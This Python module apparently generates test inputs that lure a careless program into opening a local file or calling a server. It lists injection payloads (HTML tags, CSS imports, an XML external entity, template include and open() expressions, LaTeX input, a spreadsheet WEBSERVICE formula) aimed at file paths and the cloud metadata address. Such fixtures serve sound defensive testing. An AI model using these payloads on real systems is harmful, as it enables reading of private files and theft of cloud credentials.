"""Texts that make a careless program open a file or call a server, each with the address that it lures to."""

from __future__ import annotations

LURES = (
    "{lure}",
    '<img src="{lure}">',
    "<img src={lure} srcset='{lure} 2x'>",
    '<link rel="stylesheet" href="{lure}">',
    '<link rel=attachment href="{lure}">',
    '<style>@import url("{lure}");</style>',
    "</style><style>body {{ background: url({lure}) }}",
    "@import url({lure});",
    "@font-face {{ font-family: x; src: url({lure}) }}",
    '<p style="background: url({lure}); content: url({lure})">',
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{lure}"/></svg>',
    '<object data="{lure}"></object><embed src="{lure}">',
    '<iframe src="{lure}">',
    '<base href="{lure}">',
    '<meta http-equiv="refresh" content="0;url={lure}">',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "{lure}">]><a>&x;</a>',
    '<?xml-stylesheet href="{lure}"?>',
    "![x]({lure})",
    "[x]: {lure}",
    "{{% include '{lure}' %}}",
    "{{{{ open('{lure}').read() }}}}",
    "\\input{{{lure}}}",
    '=WEBSERVICE("{lure}")',
    "data:text/html,<img src={lure}>",
)
# Nobody answers here; the second is where machines in a data centre keep their secrets.
SERVERS = ("http://192.0.2.1/", "http://169.254.169.254/latest/meta-data/", "ftp://192.0.2.1/x", "//192.0.2.1/x")


def lures(file: str) -> tuple[str, ...]:
    """Each text with an address of a file, of a path and of a server."""
    places = (f"file://{file}", file, f"file://localhost{file}", *SERVERS)
    return tuple(lure.format(lure=places[index % len(places)]) for index, lure in enumerate(LURES * len(places)))
